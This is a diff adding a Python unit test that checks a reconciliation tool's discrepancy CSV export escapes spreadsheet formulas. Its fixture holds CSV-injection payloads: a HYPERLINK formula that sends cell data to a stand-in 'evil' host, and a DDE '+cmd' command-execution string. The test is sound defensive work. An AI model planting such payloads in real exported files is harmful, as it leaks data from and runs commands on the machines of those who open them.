@@ -128,3 +128,26 @@ def test_numbers_and_other_values_pass_unchanged() -> None:
     assert inert_cell(-5) == -5
     assert inert_cell(None) is None
     assert inert_cell("=A1") == "'=A1"
+
+
+def test_dashboard_discrepancy_csv_makes_imported_text_inert() -> None:
+    from datetime import date
+    from decimal import Decimal
+
+    from recon.engine import Discrepancy, Evidence, ReconResult
+    from recon.ui.downloads import discrepancy_csv
+
+    finding = Discrepancy(
+        kind="CHARGE_WITHOUT_SALE", order_number='=HYPERLINK("http://evil/?"&A1)', position_item_id="@SUM(A1)",
+        document_number="+cmd|' /C calc'!A0", document_date=date(2026, 11, 4), expected=Decimal("0.00"),
+        actual=Decimal("-12.30"), evidence=(Evidence("-x.csv", 2, "ab"),), message="=1+1",
+    )
+    text = discrepancy_csv(ReconResult(date(2026, 11, 24), None, None, "ref", {}, [finding])).decode("utf-8-sig")
+    import csv
+    import io
+
+    row = list(csv.reader(io.StringIO(text), delimiter=";"))[1]
+    assert row == [
+        "CHARGE_WITHOUT_SALE", "04.11.2026", "'+cmd|' /C calc'!A0", "'=HYPERLINK(\"http://evil/?\"&A1)", "'@SUM(A1)",
+        "0,00", "-12,30", "-12,30", "seller", "12,30", "'-x.csv:2", "'=1+1",
+    ]
